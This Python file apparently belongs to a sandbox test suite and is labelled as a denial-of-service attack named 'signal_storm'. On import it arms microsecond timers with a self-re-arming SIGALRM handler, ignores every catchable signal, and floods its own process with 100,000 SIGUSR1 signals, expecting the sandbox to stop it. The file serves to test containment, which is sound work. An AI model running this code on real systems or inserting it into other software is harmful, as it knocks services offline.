# ATTACK: signal_storm
# KIND: dos
# MUST: timers at their finest, handlers that raise and signals to oneself end with the box

import os
import signal
import threading

from fastapi import FastAPI

app = FastAPI()
results = {}
BOX = os.path.dirname(os.getcwd())


def attempt(name, action):
    try:
        results[name] = f"PWNED {action()!r}"[:300]
    except BaseException as error:
        results[name] = f"BLOCKED {type(error).__name__} {error}"[:200]


@app.get("/r")
async def read_results():
    return results


@app.get("/items/{i}")
async def read_item(i: int):
    return {"i": i}


def handle(number, frame):
    signal.setitimer(signal.ITIMER_REAL, 0.000001)


signal.signal(signal.SIGALRM, handle)
signal.setitimer(signal.ITIMER_REAL, 0.000001, 0.000001)
signal.setitimer(signal.ITIMER_PROF, 0.000001, 0.000001)
for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        continue
for _ in range(100000):
    os.kill(os.getpid(), signal.SIGUSR1)
